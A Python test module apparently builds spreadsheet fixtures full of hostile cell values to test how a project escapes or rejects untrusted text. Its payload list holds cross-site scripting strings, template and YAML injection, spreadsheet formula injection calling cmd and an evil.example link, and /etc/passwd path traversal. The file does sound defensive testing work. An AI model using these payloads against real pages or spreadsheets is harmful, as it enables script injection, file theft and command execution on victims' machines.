"""Forty things a stranger, a careless paste or an attacker puts into a cell, as data; and sheets that are full of them.

Source: the project's own study of untrusted cell text, tried on template engines, Markdown, browsers and spreadsheets.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

from acceptance.books import sample_options, samples
from jinlin.kind import Kind, Sheet
from jinlin.record.column import Column, public_columns
from jinlin.record.readers import read_id
from loopback.spreadsheets import Worksheet
from privacy.made_numbers import mobile

FAMILY = "👨‍👩‍👧‍👦"
VALUES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=//evil.example>',
    "' onmouseover='alert(1)",
    "</td></tr></table><h1>伪造公告</h1>",
    "</script><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=身份证>",
    "<!-- 未闭合",
    "&lt;b&gt; 已转义 &amp;",
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](java\tscript:alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n[点][x]",
    "![](https://evil.example/t.png)",
    "# x {: onmouseover=alert(1) }",
    '--8<-- "/etc/passwd"',
    "{{ config }}{% include '/etc/passwd' %}",
    "{{7*7}}${7*7}#{7*7}",
    "---\ntitle: 改标题\n---",
    '!!python/object/apply:os.system ["id"]',
    *("yes", "null", "0123", "2026-03-05"),
    "a | b \n|---|---|",
    "=cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example","点")',
    "\t@SUM(1+1)*cmd",
    "-2+3+cmd",
    "../../../../etc/passwd",
    "..%2f..%2findex",
    *("CON", "index", "404", ".hidden", "a/b"),
    "\u202egnp.exe\u202c",
    "理\u200b发",
    *("空\x00字", "\x07铃", "\x1b[31m红", "换\x85行", "段\u2028落", "半\ud800个"),
    "长" * 50_000,
    "w" * 5_000,
    "通" + "\u0301" * 200,
    f"一家{FAMILY}",
    "换\\n行\n;分,逗\\反",
)
"""What may stay as text, or is refused for its length or its shape."""

PRIVATE = (
    "\u200b".join(mobile()),
    "BEGIN:VEVENT\r\nATTENDEE:mailto:x@evil.example",
    f"请打{mobile()[:3]}\n{mobile()[3:]}",
    f"请打**{mobile()[:7]}**{mobile()[7:]}",
)
"""What holds the whole row back: a number hidden by zero-width characters, by the end of a line or by stars, somebody's
address."""


@dataclass(slots=True)
class Attack:
    """One sheet full of hostile rows behind its sample. ``typed``: sheet row → header → what was typed there."""

    kind: Kind
    sheet: Sheet
    title: str
    rows: list[list[str]]
    typed: dict[int, dict[str, str]] = field(default_factory=dict)

    def worksheet(self, gid: int, *, hostile: bool) -> Worksheet:
        """The tab; only Google can hold all of it: a CSV has no lone surrogates, a workbook no control characters."""
        rows = self.rows if hostile else self.rows[: len(self.rows) - len(self.typed)]
        return Worksheet(title=self.title, gid=gid, rows=rows)

    @property
    def id_label(self) -> str:
        """What the sheet calls its 编号."""
        return next(c.label for c in public_columns(self.sheet.model) if c.key == "id")

    def text_columns(self) -> list[Column]:
        """The columns of the sheet that hold free text and may be public, 编号 among them."""
        return [
            c
            for c in public_columns(self.sheet.model)
            if (c.reader.is_text or c.reader is read_id) and c.label in self.rows[0]
        ]

    def add(self, base: Sequence[str], cells: dict[str, str]) -> None:
        """One more row: ``base`` with some cells replaced and an id of its own."""
        number = len(self.rows) + 1
        full = {self.id_label: f"h-{number:04}", **cells}
        self.rows.append([full.get(label, cell) for label, cell in zip(self.rows[0], base, strict=True)])
        self.typed[number] = cells


def attacks(kind: Kind) -> Iterator[Attack]:
    """Every sheet of a kind: each value stands in each of its text columns, private ones in a row of their own."""
    sheets = {sheet.key: sheet for sheet in kind.sheets(kind.read_options(sample_options(kind)).value)}
    for key, title, rows in samples(kind):
        attack = Attack(kind=kind, sheet=sheets[key], title=title, rows=[list(row) for row in rows])
        once = [row for row in rows[1:] if not any(cell.startswith("每") for cell in row)]  # a series has a page of days
        base = max(once, key=lambda row: sum(1 for cell in row if cell))
        _fill(attack, base)
        yield attack


def _fill(attack: Attack, base: Sequence[str]) -> None:
    """A column that holds its row back gets a row for each value; all others share rows, each value once in each."""
    columns = attack.text_columns()
    alone = [c.label for c in columns if c.required or c.vital]
    shared = [c.label for c in columns if c.label not in alone]
    for label in alone:
        for value in VALUES:
            attack.add(base, {label: value})
    for at in range(len(VALUES) if shared else 0):
        attack.add(base, {label: VALUES[(at + 7 * n) % len(VALUES)] for n, label in enumerate(shared)})
    for label in (*alone, *shared):
        for value in PRIVATE:
            attack.add(base, {label: value})
